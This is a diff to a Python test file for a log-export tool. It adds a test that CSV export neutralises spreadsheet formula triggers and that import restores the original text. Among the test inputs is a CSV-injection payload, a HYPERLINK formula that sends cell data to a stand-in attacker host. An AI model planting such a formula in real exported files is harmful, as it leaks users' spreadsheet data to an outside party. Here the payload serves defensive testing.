@@ -11,7 +11,7 @@ from portability_helpers import fill, make_event, make_session
 from agentlog.migrate.export import Selection, export
 from agentlog.migrate.writers import FORMATS, make_writer
 from agentlog.storage.base import EventQuery, event_record
-from agentlog.storage.sqlite import SQLiteStore
+from agentlog.storage.sqlite.store import SQLiteStore
 
 
 def _write(fmt: str, stream: io.BufferedIOBase, session, events, as_records: bool) -> None:
@@ -62,3 +62,44 @@ def test_export_from_records_equals_export_through_events(
     fast_lines, slow_lines = fast.read_bytes().splitlines(), slow.read_bytes().splitlines()
     assert fast_lines[1:] == slow_lines[1:] and len(fast_lines) > 21
     assert store.list_event_records(EventQuery(limit=1)).items
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+1+1",
+        "-2+3",
+        "@SUM(A1)",
+        "\tcmd",
+        "\rcmd",
+        "'=already quoted",
+        "''x",
+        "'plain",
+        "'",
+        "plain",
+    ],
+)
+def test_csv_neutralises_formulas_and_import_restores_them(store, other, tmp_path, text) -> None:
+    import csv as csvmod
+
+    from agentlog.migrate.export import Selection, export
+    from agentlog.migrate.importer import import_file
+    from agentlog.migrate.writers import FORMULA_TRIGGERS
+    from agentlog.model import Event, Session
+    from agentlog.storage.base import EventQuery
+
+    session = Session(title=text, description=text)
+    event = Event(session_id=session.id, type="LOG", content=text, name=text, agent_id=text)
+    store.write([session], [event])
+    out = tmp_path / "x.csv"
+    export(store, Selection(all=True), "csv", out)
+    with out.open(newline="", encoding="utf-8") as fh:
+        rows = list(csvmod.reader(fh))
+    for row in rows[1:]:
+        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row), row
+    report = import_file(other, out)
+    assert report.ok, report.to_dict()
+    (back,) = other.list_events(EventQuery(session_id=session.id)).items
+    assert (back.content, back.name, back.agent_id) == (text, text, text)
+    assert other.get_session(session.id).title == text
